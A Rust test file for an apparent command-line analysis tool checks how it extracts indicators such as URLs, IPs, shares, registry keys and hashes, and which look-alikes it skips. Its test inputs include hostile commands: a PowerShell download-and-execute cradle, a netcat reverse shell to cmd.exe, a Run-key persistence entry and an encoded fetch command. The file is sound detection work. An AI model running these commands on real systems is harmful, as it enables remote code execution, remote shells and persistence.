//! What `indicators` finds in command lines, and what it must leave alone.

use spawnscope::decode::{Command, decode, indicators};
use spawnscope::model::IndicatorKind::{
    self, Domain, Email, Hash, Ip, Path, RegistryKey, Share, Url,
};

fn found(text: &str) -> Vec<(IndicatorKind, String)> {
    indicators(text).into_iter().map(|found| (found.kind, found.value)).collect()
}

#[test]
fn each_kind_is_found_exactly() {
    let cases: &[(&str, &[(IndicatorKind, &str)])] = &[
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')",
            &[(Url, "http://198.51.100.23/u.ps1"), (Ip, "198.51.100.23")],
        ),
        (
            "curl -o a https://user:pw@cdn.example.com:8443/a(1).exe?x=1&y=2#z, then",
            &[
                (Url, "https://user:pw@cdn.example.com:8443/a(1).exe?x=1&y=2#z"),
                (Domain, "cdn.example.com"),
            ],
        ),
        ("iwr ('http://192.0.2.9/' + $a)", &[(Url, "http://192.0.2.9/"), (Ip, "192.0.2.9")]),
        ("iwr http://fileserver/x.ps1;dir", &[(Url, "http://fileserver/x.ps1")]),
        ("x http://[2001:db8::1]:80/a", &[(Url, "http://[2001:db8::1]:80/a"), (Ip, "2001:db8::1")]),
        ("ping -n 3 127.0.0.1 & ping ::1", &[(Ip, "127.0.0.1"), (Ip, "::1")]),
        ("nc 203.0.113.44:443 -e cmd.exe", &[(Ip, "203.0.113.44")]),
        ("ping fe80::1ff:fe23:4567:890a%eth2", &[(Ip, "fe80::1ff:fe23:4567:890a")]),
        ("nslookup evil.example.com 8.8.8.8", &[(Domain, "evil.example.com"), (Ip, "8.8.8.8")]),
        ("ping EVIL.EXAMPLE.ORG", &[(Domain, "EVIL.EXAMPLE.ORG")]),
        ("net use \\\\FS01\\C$ /persistent:no", &[(Share, "\\\\FS01\\C$")]),
        (
            "copy a.exe \"\\\\10.0.0.5\\ADMIN$\\Temp\\a b.exe\"",
            &[
                (Share, "\\\\10.0.0.5\\ADMIN$"),
                (Ip, "10.0.0.5"),
                (Path, "\\\\10.0.0.5\\ADMIN$\\Temp\\a b.exe"),
            ],
        ),
        (
            "rundll32 C:\\Users\\a\\AppData\\Local\\Temp\\zcrash.dll,Start",
            &[(Path, "C:\\Users\\a\\AppData\\Local\\Temp\\zcrash.dll")],
        ),
        (
            "\"C:\\Program Files\\Zoom\\bin\\Zoom.exe\" --url=x",
            &[(Path, "C:\\Program Files\\Zoom\\bin\\Zoom.exe")],
        ),
        (
            "C:\\Program Files (x86)\\Common Files\\a.exe -x",
            &[(Path, "C:\\Program Files (x86)\\Common Files\\a.exe")],
        ),
        ("cmd /c \"C:\\My Tools\\a b.exe -run\"", &[(Path, "C:\\My Tools\\a b.exe")]),
        (
            "del %TEMP%\\a.dll %%APPDATA%%\\b.exe",
            &[(Path, "%TEMP%\\a.dll"), (Path, "%%APPDATA%%\\b.exe")],
        ),
        ("saps $env:TEMP\\a.exe", &[(Path, "$env:TEMP\\a.exe")]),
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a",
            &[(RegistryKey, "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")],
        ),
        ("sp 'HKLM:\\Software\\A B' x", &[(RegistryKey, "HKLM:\\Software\\A B")]),
        ("find d41d8cd98f00b204e9800998ecf8427e", &[(Hash, "d41d8cd98f00b204e9800998ecf8427e")]),
        (
            "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
            &[(Hash, "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855")],
        ),
        ("Send-MailMessage -To drop.box+a@example.com", &[(Email, "a@example.com")]),
        ("mail joe.doe@example.co.uk now", &[(Email, "joe.doe@example.co.uk")]),
        ("ssh root@evil.example.com", &[(Domain, "evil.example.com")]),
    ];
    for (text, expected) in cases {
        let expected: Vec<_> =
            expected.iter().map(|(kind, value)| (*kind, (*value).to_owned())).collect();
        assert_eq!(found(text), expected, "{text}");
    }
}

#[test]
fn what_only_looks_like_one_is_left_alone() {
    let texts = [
        "cmd.exe /c whoami.exe & net.exe user & a.ps1 b.bat",
        "New-Object Net.WebClient; New-Object IO.MemoryStream; [System.Net.Dns]::GetHostName()",
        "[System.IO.File]::ReadAllText($x); [Convert]::FromBase64String($b); [System.Net]; using System.IO",
        "$client.info $a.com [x.net] foo.com(1) %x.com%",
        "command.com /c format.com a:",
        "Version=4.0.0.0, Culture=neutral; Mozilla/5.0 Chrome/120.0.0.0; version 1.2.3.4; v10.0.19041.1",
        "10.0.19041.3636 1.2.3 256.1.1.1 1.2.3.4.5",
        "00:11:22:33:44:55 12:34:56 [Math]::Abs(1) ::ab C::d",
        "\\\\.\\pipe\\x \\\\?\\C:\\ C:\\ C: a:\\",
        "{6ba7b810-9dad-11d1-80b4-00c04fd430c8} 12345678901234567890123456789012",
        "d41d8cd98f00b204e9800998ecf8427e0 /d41d8cd98f00b204e9800998ecf8427e/",
        "http:// https://%SERVER%/x http://$ip/x",
        "HKLM HKCU\\ a@b @splat user@host %TEMP% %x%",
        "'http://exam'+'ple.com/x'; ('ev'+'il.com') + '1.2.3.4'",
        "C:\\Windows\\System32\\cmd.exe",
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop",
    ];
    for text in texts {
        assert_eq!(found(text), [], "{text}");
    }
}

#[test]
fn layers_follow_the_input_without_repeats() {
    // `iwr http://192.0.2.7/a; ping 192.0.2.8` as UTF-16LE, by Python's base64 module.
    let line = "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA3AC8AYQA7ACAAcABpAG4AZwAgADEAOQAyAC4AMAAuADIALgA4AA==";
    let decoding = decode(&Command { text: line, ..Command::default() });
    let values: Vec<&str> = decoding.indicators.iter().map(|found| found.value.as_str()).collect();
    assert_eq!(values, ["http://192.0.2.7/a", "192.0.2.7", "192.0.2.8"]);
}
